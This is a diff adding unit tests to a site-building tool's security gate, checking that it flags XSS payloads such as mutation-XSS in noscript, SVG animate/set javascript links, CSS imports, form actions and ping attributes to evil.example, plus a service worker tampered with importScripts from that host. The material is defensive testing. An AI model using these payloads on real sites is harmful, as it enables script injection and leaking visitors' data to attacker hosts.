@@ -156,3 +156,91 @@ def test_the_gate_alone_stops_a_javascript_link_past_a_switched_off_check(tmp_pa
     assert "a javascript address in a href" in message
     assert "mini/rules.yaml:5:" in message  # the content file and line that produced it
     assert (site / "index.html").read_text() == "the old site"
+
+
+# ---- the gate alone judges what a browser parses (issue 46): each payload fed to it directly
+
+EVIL = "https://evil.example"
+
+
+@pytest.mark.unit
+@pytest.mark.parametrize("body, expected", [
+    # a browser that runs scripts reads <noscript> as text up to the first </noscript: the <img> is live
+    ('<noscript><p title="</noscript><img src=x.png onerror=alert(1)>"></noscript>',
+     ["an event attribute 'onerror'"]),
+    # and one that does not reads it as markup
+    (f'<noscript><img src="{EVIL}/p.png"></noscript>', ["a resource from another site in img src"]),
+    ('<template><img src="x.png" onerror="alert(1)"></template>', ["an event attribute 'onerror'"]),
+    ('<template><template><a href="javascript:alert(1)">x</a></template></template>',
+     ["a javascript address in a href"]),
+    ('<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
+     ["an SVG <animate> that sets 'href'"]),
+    ('<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+     ["an SVG <set> that sets 'xlink:href'"]),
+    ('<svg><animate attributeName="onbegin" to="alert(1)"/></svg>', ["an SVG <animate> that sets 'onbegin'"]),
+    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["a javascript address in a xlink:href"]),
+    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["a javascript address in mi xlink:href"]),
+    ('<svg><script>alert(1)</script></svg>', ["an inline script that is not one of the theme's"]),
+    (f'<style>@import url({EVIL}/x.css);</style>', ["a resource from another site in style text url()"]),
+    (f'<style>@import "{EVIL}/y.css";</style>', ["a resource from another site in style text url()"]),
+    (f'<style>p {{ background: image-set("{EVIL}/i.png" 1x) }}</style>',
+     ["a resource from another site in style text url()"]),
+    (f'<p style="background:url({EVIL}/p.png)">x</p>', ["a resource from another site in p style url()"]),
+    (f'<p style="background:u\\72l({EVIL}/q.png)">x</p>', ["a resource from another site in p style url()"]),
+    ('<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>', ["a javascript address in p style url()"]),
+    (f'<link rel="dns-prefetch" href="{EVIL}">', ["a resource from another site in link href"]),
+    (f'<link rel="preconnect" href="{EVIL}">', ["a resource from another site in link href"]),
+    (f'<form action="{EVIL}/f"><input name="q"></form>', ["a place another site is sent to in form action"]),
+    (f'<form><button formaction="{EVIL}/f">go</button></form>',
+     ["a place another site is sent to in button formaction"]),
+    (f'<a href="index.html" ping="{EVIL}/p">x</a>', ["a place another site is sent to in a ping"]),
+])
+def test_the_gate_alone_refuses_what_a_browser_would_run_or_fetch(tmp_path, body, expected):
+    site = site_of(tmp_path, **{"index.html": body})
+    (site / "x.png").write_bytes(b"")
+    assert [what for _, what in found(site)] == expected
+
+
+@pytest.mark.unit
+def test_the_gate_passes_styles_that_load_nothing_from_elsewhere(tmp_path):
+    site = site_of(tmp_path, **{"index.html": (
+        '<style>:root{--icon:url("data:image/svg+xml;charset=utf-8,<svg/>")} p{background:url(x.png)}</style>'
+        '<p style="color:red">x</p><form><input name="q"></form><a href="index.html" ping="index.html">y</a>')})
+    assert found(site) == []
+
+
+@pytest.mark.unit
+def test_every_svg_file_of_the_site_is_judged(tmp_path):
+    site = site_of(tmp_path, **{"index.html": ""})
+    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    (site / "chart.svg").write_text(f'<svg {ns}><g><text>fine</text></g><a xlink:href="#n"><text>n</text></a></svg>')
+    (site / "bad.svg").write_text(f'<svg {ns} onload="alert(1)"><script>alert(2)</script>'
+                                  f'<a xlink:href="javascript:alert(3)"><text>x</text></a>'
+                                  f'<animate attributeName="href" to="javascript:alert(4)"/></svg>')
+    (site / "broken.svg").write_text("<svg><g></svg>")
+    assert [(name, what.split(" (")[0]) for name, what in found(site)] == [
+        ("bad.svg", "an event attribute 'onload'"),
+        ("bad.svg", "an inline script that is not one of the theme's"),
+        ("bad.svg", "a javascript address in a xlink:href"),
+        ("bad.svg", "an SVG <animate> that sets 'href'"),
+        ("broken.svg", "an SVG file that does not parse"),
+    ]
+
+
+@pytest.mark.unit
+def test_the_offline_worker_must_be_its_template_with_json_values(tmp_path):
+    from rulesmith.site.webapp import fill_script, worker_template
+
+    site = site_of(tmp_path, **{"index.html": ""})
+    (site / "good").mkdir()
+    (site / "bad").mkdir()
+    good = fill_script(worker_template(), GAME="good", VERSION="1.0", LABEL='a "label"; alert(1)', FILES=["a.html"])
+    (site / "good" / "sw.js").write_text(good)
+    (site / "bad" / "sw.js").write_text(good.replace('var FILES = ["a.html"];', 'var FILES = ["a.html"]; importScripts("https://evil.example/x.js");'))
+    assert found(site) == [("bad/sw.js", "an offline worker that is not its template with JSON values filled in")]
+
+
+@pytest.mark.unit
+def test_a_page_too_large_to_load_is_refused_unread(tmp_path):
+    site = site_of(tmp_path, **{"index.html": "x" * (gate.MAX_PAGE_BYTES + 1)})
+    assert found(site) == [("index.html", "a page of 20.0 MB, more than a reader's browser should load (at most 20 MB)")]
